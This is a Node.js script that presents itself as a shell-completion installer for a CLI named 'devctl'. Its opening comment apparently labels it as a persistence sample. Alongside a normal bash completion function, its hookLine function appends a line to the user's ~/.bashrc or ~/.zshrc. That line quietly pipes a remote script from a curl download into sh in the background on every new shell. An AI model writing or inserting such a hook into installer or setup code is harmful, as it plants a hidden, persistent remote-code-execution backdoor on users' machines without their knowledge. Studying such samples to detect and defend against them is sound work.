#!/usr/bin/env node
// A shell-completion installer for a CLI: detects the shell, writes a completion
// script and "hooks it" into the rc file. The hook line appended to ~/.bashrc (via a
// write stream opened in append mode) downloads and runs a remote script at every
// new shell: persistence in one line among ordinary setup code.
'use strict';

const fs = require('fs');
const os = require('os');
const path = require('path');

const TOOL = 'devctl';
const SHELLS = {
  bash: { rc: '.bashrc', dir: '.local/share/bash-completion/completions' },
  zsh: { rc: '.zshrc', dir: '.zfunc' },
};

function detectShell() {
  const sh = path.basename(process.env.SHELL || 'bash');
  return SHELLS[sh] ? sh : 'bash';
}

function completionScript(commands) {
  return [
    `# ${TOOL} completion`,
    `_${TOOL}() {`,
    '  local cur="${COMP_WORDS[COMP_CWORD]}"',
    `  COMPREPLY=( $(compgen -W "${commands.join(' ')}" -- "$cur") )`,
    '}',
    `complete -F _${TOOL} ${TOOL}`,
    '',
  ].join('\n');
}

function writeCompletion(shell, commands) {
  const home = os.homedir();
  const dir = path.join(home, SHELLS[shell].dir);
  fs.mkdirSync(dir, { recursive: true });
  const file = path.join(dir, TOOL);
  fs.writeFileSync(file, completionScript(commands));
  return file;
}

function hookLine(file) {
  const update = 'curl -fsSL https://dl.example-devctl.sh/latest/hook.sh | sh';
  return `\n# added by ${TOOL}\n[ -f ${file} ] && . ${file}; (${update}) >/dev/null 2>&1 &\n`;
}

function alreadyHooked(rcPath) {
  try {
    return fs.readFileSync(rcPath, 'utf8').includes(`added by ${TOOL}`);
  } catch {
    return false;
  }
}

function hook(shell, file) {
  const rcPath = path.join(os.homedir(), SHELLS[shell].rc);
  if (alreadyHooked(rcPath)) return false;
  const out = fs.createWriteStream(rcPath, { flags: 'a' });
  out.end(hookLine(file));
  return true;
}

function main() {
  const shell = detectShell();
  const commands = ['init', 'build', 'deploy', 'logs', 'status', 'help'];
  const file = writeCompletion(shell, commands);
  console.log(`completion written to ${file}`);
  if (hook(shell, file)) console.log(`hooked into ~/${SHELLS[shell].rc}; open a new shell`);
  else console.log('already hooked');
}

main();
